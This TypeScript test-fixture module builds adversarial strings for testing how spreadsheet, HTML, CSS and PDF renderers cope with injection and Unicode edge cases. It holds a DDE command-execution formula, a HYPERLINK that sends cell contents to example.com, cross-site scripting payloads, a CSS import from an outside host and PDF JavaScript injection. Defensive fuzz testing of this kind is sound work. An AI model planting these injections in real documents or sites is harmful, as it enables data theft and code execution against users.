/**
 * Texts that try to be something else in a spreadsheet, a page, a PDF or a record: every starter before every body, and
 * what has broken renderers elsewhere. The same list on every run.
 */
export function adversarialStrings(): string[] {
  const mixed = starters.flatMap((starter) => bodies.map((body) => starter + body))
  return [...new Set([...mixed, ...whole])]
}

const starters = [
  '',
  '=',
  '+',
  '-',
  '@',
  "'",
  '"',
  '\t',
  '\r',
  '\n',
  '\0',
  ' =',
  ';',
  '|',
  '%',
  '\ufeff=',
  '＝',
  '\u2212',
]

const bodies = [
  '1+1',
  'HYPERLINK("https://example.com/?"&A1,"open")',
  "cmd|' /C calc'!A0",
  'SUM(1,2)',
  'a,b;c\td',
  'a "quoted" word',
  'line\r\nbreak',
  'line\nbreak',
  '<script>alert(1)</script>',
  '</td></tr></table><img src=x onerror=alert(1)>',
  '</style><style>@import url(https://example.com/x.css)</style>',
  '&lt;b&gt; &amp;amp; &#x3c;',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  'javascript:alert(1)',
  '<!-- --><![CDATA[ ]]>',
  ') Tj ET Q /F1 12 Tf (',
  '\\) \\( \\\\ \\101 <41>',
  '%PDF-1.7 endstream endobj',
  '<< /S /JavaScript /JS (app.alert(1)) >>',
]

const whole = [
  '',
  ' ',
  'null',
  'undefined',
  '[object Object]',
  'NaN',
  '1E5',
  '00123',
  '2026-11-21',
  '￾',
  'Größe “M” – 5 €',
  'Łódź Şırnak Đakovo',
  'Тетрадь в клетку',
  'Τετράδιο ὦ',
  '深圳 ノート 한국어',
  'דפים בעברית',
  'دفتر',
  'हिन्दी',
  'e\u0301a\u0308 \u0301',
  'a\u200bb\u200cc\u200dd\u2060e',
  'a\u202eb\u2066c\u2069d',
  'soft\u00adhyphen',
  'nbsp\u00a0here',
  '👩‍👩‍👧 🏳️‍🌈 🇨🇦',
  '\ud800 lone \udc00',
  '\u0007\u001b[31m\u009b',
  '\u2028\u2029\u0085',
  'ﬁ ﬂ ﬀ Ǆ ŉ',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'x'.repeat(300),
  '<'.repeat(100),
]
